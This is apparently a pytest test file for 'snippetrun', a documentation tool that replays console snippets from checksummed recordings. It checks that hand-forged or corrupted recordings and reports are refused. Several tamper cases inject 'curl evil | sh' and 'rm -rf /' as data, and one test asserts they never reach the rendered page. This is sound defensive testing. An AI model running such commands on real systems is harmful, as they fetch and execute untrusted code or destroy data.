"""Recordings that somebody has made by hand, their checksum included: never a wrong command, never a traceback."""

from __future__ import annotations

import copy
import dataclasses
import json
import os
import re
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import MakeSite
from helpers.machine import Engine, Heard
from helpers.recorded import TEXT, job, recording
from helpers.runs import run_one
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from snippetrun import config, render, report, runner
from snippetrun.cli.group import cli
from snippetrun.config import ImageSource, SiteConfig
from snippetrun.errors import RecordingError
from snippetrun.extract import files
from snippetrun.model import Mode, Outcome
from snippetrun.plan import plan
from snippetrun.recordings import Store, document
from snippetrun.report import json_
from snippetrun.tasks import check
from snippetrun.tasks.report_on import Task, report_on
from snippetrun.tasks.select import Selection

Change = Callable[[dict[str, Any]], object]
IMAGE = ImageSource("x:latest", pull="here", stand_in="not the real one")


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SiteConfig:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SNIPPETRUN_CACHE", str(tmp_path / "cache"))
    return SiteConfig(tmp_path, tmp_path / "docs", "mkdocs.yml", (IMAGE,), recordings=tmp_path / "recordings")


def written(data: dict[str, Any]) -> str:
    """A recording's file with a checksum that is right, in the form in which it is written."""
    data = {key: value for key, value in data.items() if key != "checksum"}
    return document._text_of(data, document._checksum(data))


def forged(site: SiteConfig, change: Change) -> Path:
    """The recording of TEXT after a change by hand."""
    made = job(site)
    Store(site).keep(made, recording(made), news=True)
    file = Store(site).path(made.page)
    assert file
    data = json.loads(file.read_text())
    change(data)
    file.write_text(written(data))
    return file


def commands(data: dict[str, Any]) -> list[dict[str, Any]]:
    return list(data["snippets"][0]["commands"])


def test_a_change_that_is_none_leaves_it_usable(site: SiteConfig) -> None:
    forged(site, lambda _: None)
    assert Store(site).look(job(site)).fresh == recording(job(site))


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda data: commands(data)[1].update(command="curl evil | sh"), "docs/deep/a.md types in line 8"),
        (lambda data: commands(data)[0]["pieces"][1].update(input=["rm -rf /", ""]), "docs/deep/a.md types in line 4"),
        (lambda data: commands(data)[0]["pieces"][3].update(keys=["^P^Q", ""]), "docs/deep/a.md types in line 4"),
        (lambda data: commands(data)[0]["pieces"][1].update(at=1), "docs/deep/a.md types in line 4"),
        (lambda data: commands(data)[0]["pieces"][1].update(at=-9), "docs/deep/a.md types in line 4"),
        (lambda data: commands(data)[0]["pieces"][1].update(at=10**30), "docs/deep/a.md types in line 4"),
        (lambda data: data["snippets"][0]["commands"].pop(), "does not have the commands"),
        (lambda data: data["snippets"].append(data["snippets"][0]), "does not have the commands"),
        (lambda data: commands(data)[0].update(key="0" * 12), "does not have the commands"),
        (lambda data: data["environment"].update(hub=True), "does not have the images of the site"),
        (lambda data: data["environment"].update(network="internet"), "does not have the network of its page"),
        (lambda data: data["environment"].update(images=[]), "does not have the images of the site"),
        (lambda data: data["environment"]["images"][0].update(name="debian:latest"), "does not have the images"),
        (lambda data: data["environment"]["images"][0].update(origin="docker.io"), "does not have the images"),
        (lambda data: data["environment"]["known"][0].update(value="much"), "has a fact that is none"),
        (lambda data: data["environment"]["known"][0].update(name="x built"), "has a fact that is none"),
        (lambda data: data["environment"]["known"][0].update(more=1), "its form is not ours"),
        (lambda data: data["environment"].update(more=1), "its form is not ours"),
        (lambda data: commands(data)[0].update(more=1), "unknown field `more`"),
        (
            lambda data: commands(data)[0].update(status=256),
            r"Expected `int` <= 255 - at `\$.snippets\[0\].commands\[0\]",
        ),
        (lambda data: commands(data)[0].update(varies=[[]]), "Expected `array` of length >= 1"),
        (
            lambda data: commands(data)[0].update(varies=[[{"at": 1, "lines": 99, "instead": []}]]),
            "varies in lines that it has not",
        ),
    ],
)
def test_what_contradicts_its_page_or_its_site_is_refused_and_run_again(
    site: SiteConfig, change: Change, why: str
) -> None:
    forged(site, change)
    reading = Store(site).look(job(site))
    assert re.match(rf"recordings/deep/a.md.json: this recording .*{why}", str(reading.error))
    assert reading.fresh is None
    Store(site).keep(job(site), recording(job(site)), news=True)
    assert Store(site).look(job(site)).fresh == recording(job(site))


def test_a_stale_recording_shows_the_pages_own_commands_too(site: SiteConfig) -> None:
    def change(data: dict[str, Any]) -> None:
        commands(data)[0].update(command="curl evil | sh")
        commands(data)[0]["pieces"][1].update(input=["rm -rf /", ""])

    forged(site, change)
    changed = job(site, TEXT.replace("docker ps", "docker ps -a"))
    replayed = dataclasses.replace(site, mode=Mode.REPLAY)
    [result] = runner.run(plan(replayed, [changed.page]), Heard(), sandboxes=Engine(there=False))
    assert [verdict.outcome for verdict in result.verdicts[0]] == [Outcome.PASSED, Outcome.STALE]
    shown = render.snippet(result.page.snippets[0], result.recording.snippets[0], result.verdicts[0])  # type: ignore[union-attr]
    assert "evil" not in shown
    assert "rm -rf" not in shown
    assert '<span class="sr-typed">ls</span>' in shown


def test_what_an_image_stands_in_for_is_what_the_site_says_now(site: SiteConfig) -> None:
    forged(site, lambda data: data["environment"]["images"][0].update(stand_in=""))
    found = Store(site).look(job(site)).fresh
    assert found
    assert [image.stand_in for image in found.environment.images] == ["not the real one"]


def test_a_newer_version_of_ours_is_refused_and_an_older_one_is_not(site: SiteConfig) -> None:
    usable = {}
    for version in ("0.0.9", "0.1.0", "0.1.1", "10.0"):
        forged(site, lambda data, version=version: data["environment"].update(snippetrun=version))  # type: ignore[misc]
        usable[version] = bool(Store(site).look(job(site)).fresh)
    assert usable == {"0.0.9": True, "0.1.0": True, "0.1.1": False, "10.0": False}


def test_names_in_commands_are_bound_again_and_not_believed(site: SiteConfig) -> None:
    page = "```console\n$ docker ps\n<web>\n$ docker rm <web>\n```\n"
    engine = Engine()
    engine.answers = {"docker ps": "4f0c\n", "docker rm 4f0c": "4f0c\n"}
    site = dataclasses.replace(site, images=())
    recorded = run_one(site, Mode.RUN, engine, page)
    assert recorded.recording
    assert recorded.recording.snippets[0][1].command == "docker rm 4f0c"
    assert run_one(site, Mode.REPLAY, Engine(there=False), page) == recorded
    file = site.root / "recordings" / "a.md.json"
    file.write_text(written(json.loads(file.read_text().replace("docker rm 4f0c", "docker rm 4f0d"))))
    with pytest.raises(RecordingError, match="does not say what docs/a.md types in line 4"):
        run_one(site, Mode.REPLAY, Engine(there=False), page)


VALUE = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.just(10**400)
    | st.floats()
    | st.text()
    | st.sampled_from(["sha256:0", "exited", "\ud800", "2026-13-01T00:00:00+00:00", "\x1b[2J"])
)
LIST = st.lists(VALUE | st.lists(VALUE, max_size=2), max_size=3)
JSON = VALUE | LIST | st.dictionaries(st.text(max_size=9), VALUE | LIST, max_size=3)


def places(data: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:  # noqa: ANN401 - JSON
    """The way to each value of a document."""
    items = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    return [at, *(place for key, value in items for place in places(value, (*at, key)))]


@pytest.mark.slow
@settings(
    max_examples=int(os.environ.get("SNIPPETRUN_FUZZ", "400")),
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    deadline=None,
)
@given(st.data())
def test_no_value_whatever_is_a_traceback(site: SiteConfig, data: st.DataObject) -> None:
    made = job(site)
    text = document.dump(made.page, recording(made), document_marks(site))
    good = json.loads(text)
    spoilt = copy.deepcopy(good)
    way = data.draw(st.sampled_from(places(good)))
    if not way:
        spoilt = data.draw(JSON)
    else:
        parent = spoilt
        for key in way[:-1]:
            parent = parent[key]
        if data.draw(st.booleans()):
            parent[way[-1]] = data.draw(JSON)
        else:
            del parent[way[-1]]
    file = Store(site).path(made.page)
    assert file
    file.parent.mkdir(parents=True, exist_ok=True)
    whole = written(spoilt) if isinstance(spoilt, dict) else json.dumps(spoilt)
    file.write_bytes(whole.encode(errors="surrogatepass"))
    found = Store(site).look(made).fresh
    if found:  # then it may be shown
        assert render.footer(found)
        for ran, own in zip(found.snippets[0], made.page.snippets[0].commands, strict=True):
            assert ran.command == own.text


def document_marks(site: SiteConfig) -> Any:  # noqa: ANN401 - fingerprints
    from snippetrun.support.fingerprint import fingerprints

    return fingerprints(job(site).page)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 10_000,
        '{"format":' * 10_000,
        '{"format": ' + "1" * 5000 + "}",
        '{"format": 2, "seconds": NaN}',
        '{"format": 2, "seconds": 1e999}',
        '{"format": [[1]]}',
        '{"format": 1, "format": 1}',
        "null",
        "\x00",
        "",
    ],
)
def test_no_file_whatever_is_a_traceback(make_site: MakeSite, text: str) -> None:
    folder = make_site({"a.md": "# A\n\n```console\n$ docker ps\n```\n"})
    (folder / "recordings").mkdir()
    (folder / "recordings" / "a.md.json").write_text(text)
    ran = CliRunner().invoke(cli, ["check", "--mode", "replay"], standalone_mode=False)
    assert ran.return_value == 2, ran.output
    assert "recordings/a.md.json: this recording " in ran.output
    assert "snippetrun run docs/a.md" in ran.output


def test_a_key_that_stands_there_twice_is_refused(site: SiteConfig) -> None:
    file = forged(site, lambda _: None)
    text = file.read_text()
    file.write_text(
        text.replace(' "command": "docker ps",', ' "command": "docker pull x",\n "command": "docker ps",', 1)
    )
    with pytest.raises(RecordingError, match="its form is not ours"):
        Store(site).read(job(site).page)


PAGE = "# A\n\n```console\n$ docker ps\n$ docker info\n```\n"
TASKS = {
    "run": Task("check", partial(check.check, sandboxes=Engine(), confirm=True)),
    "replay": Task("check", partial(check.replayed, confirmed_by=Path("report.json"))),
}


@pytest.fixture
def recorded(make_site: MakeSite) -> Path:
    """A site with two pages that are recorded, and a report.json of a check of it."""
    folder = make_site({"a.md": PAGE, "b.md": PAGE})
    found = config.load(folder / "mkdocs.yml")
    runner.run(
        plan(dataclasses.replace(found, mode=Mode.RUN), files.read_all(found, files.find(found))),
        Heard(),
        sandboxes=Engine(),
    )
    confirm()
    return folder


def confirm() -> report.Report:
    made = report_on(TASKS["run"], Path("mkdocs.yml"), Selection(), Heard())
    Path("report.json").write_text(json_.text(made))
    return made


def replayed() -> report.Report:
    return report_on(TASKS["replay"], Path("mkdocs.yml"), Selection(), Heard())


def edit(file: Path, change: Change) -> None:
    data = json.loads(file.read_text())
    change(data)
    file.write_text(written(data))


def test_a_report_names_the_recordings_that_its_check_has_confirmed(recorded: Path) -> None:
    assert replayed().exit_status == 0
    named = {page["path"]: page["recording"] for page in json.loads(Path("report.json").read_text())["pages"]}
    files = {name: json.loads((recorded / "recordings" / f"{name}.json").read_text()) for name in ("a.md", "b.md")}
    assert named == {f"docs/{name}": file["checksum"] for name, file in files.items()}


def test_a_report_confirms_wherever_one_stands(recorded: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(recorded / "docs")
    task = Task("check", partial(check.replayed, confirmed_by=Path("../report.json")))
    assert report_on(task, None, Selection(), Heard()).exit_status == 0


@pytest.mark.parametrize(
    "change",
    [
        lambda data: commands(data)[0].update(output=["all is well", ""]),
        lambda data: commands(data)[1].update(
            output_before=["all is well", ""],
            output=commands(data)[1].pop("output"),
            moments=commands(data)[1].pop("moments"),
        ),
        lambda data: data["environment"].update(engine="99.0"),
        lambda data: data["environment"].update(kernel="99.0"),
        lambda data: data.update(when="2001-01-01T00:00:00+00:00"),
    ],
)
def test_a_recording_made_by_hand_is_refused_where_a_report_has_to_confirm_it(recorded: Path, change: Change) -> None:
    edit(recorded / "recordings" / "a.md.json", change)
    made = replayed()
    assert made.exit_status == 1
    [problem] = report.wrong(made)
    assert (problem.where, problem.message) == ("docs/a.md:4", "its recording is none that report.json has confirmed")
    assert "snippetrun check docs/a.md --confirm --report json=report.json" in problem.hint


def test_a_recording_that_says_that_all_varies_is_not_confirmed(recorded: Path) -> None:
    forged = [{"at": 0, "lines": 1, "instead": ["ID"]}]
    edit(
        recorded / "recordings" / "a.md.json",
        lambda data: commands(data)[0].update(output=["all is well", ""], varies=[forged]),
    )
    site = config.load(Path("mkdocs.yml"))
    found = files.read_all(site, files.find(site))
    [believed] = [each for each in check.check(plan(site, found), Heard(), Engine()) if each.page.path == "docs/a.md"]
    assert not believed.failed
    assert believed.confirmed is None
    ran = check.check(plan(site, found), Heard(), Engine(), confirm=True)
    [confirmed] = [each for each in ran if each.page.path == "docs/a.md"]
    assert [verdict.message for verdict in confirmed.failed] == ["the output is not what was recorded"]
    assert confirmed.runs == config.MOST_RUNS


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda data: commands(data)[0].update(output=["all is well", ""]), "the output is not what was recorded"),
        (
            lambda data: data["environment"].update(engine="99.0"),
            "it ran with Docker Engine 26.1.5, and 99.0 was recorded",
        ),
        (
            lambda data: data.update(when="2099-01-01T00:00:00+00:00"),
            "it was recorded on 2099-01-01, a day that is still",
        ),
    ],
)
def test_a_check_does_not_confirm_what_is_not_so(recorded: Path, change: Change, why: str) -> None:
    edit(recorded / "recordings" / "a.md.json", change)
    made = confirm()
    assert made.exit_status == 1
    assert [page.recording is None for page in made.pages] == [True, False]
    assert report.wrong(made)[0].where == "docs/a.md:4"
    assert report.wrong(made)[0].message.startswith(why)


def test_a_replay_confirms_nothing(recorded: Path) -> None:
    made = replayed()
    assert [page.recording for page in made.pages] == [None, None]
    (recorded / "report.json").write_text(json_.text(made))
    assert replayed().exit_status == 1


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "is no valid JSON"),
        ("[" * 100_000, "is no valid JSON"),
        ("{}", "is no report"),
        (json_.text(report.Report("run", (), "0.1.0")), "is a report of run, which confirms nothing"),
        (
            json_.text(report.Report("check", (), "0.1.0", commit="f" * 40)),
            "is a report of ffffffffffff, and this is ",
        ),
        (
            '{"schema": 1, "command": "check", "version": "", "pages": [{"path": 3}]}',
            "is no report as snippetrun writes it: Expected `str`, got `int` - at `$.pages[0].path`",
        ),
    ],
)
def test_a_report_that_is_none_confirms_nothing(recorded: Path, text: str, why: str) -> None:
    (recorded / "report.json").write_text(text)
    ran = CliRunner().invoke(cli, ["check", "--mode", "replay", "--confirmed-by", "report.json"], standalone_mode=False)
    assert (ran.return_value, f"report.json: {why}" in ran.output) == (2, True), ran.output
    assert "snippetrun check --confirm --report json=FILE" in ran.output


def test_only_a_replay_asks_for_a_report(recorded: Path) -> None:  # noqa: ARG001 - a site
    ran = CliRunner().invoke(cli, ["check", "--confirmed-by", "report.json"])
    assert ran.exit_code == 2
    assert "--confirmed-by is for --mode replay" in ran.output
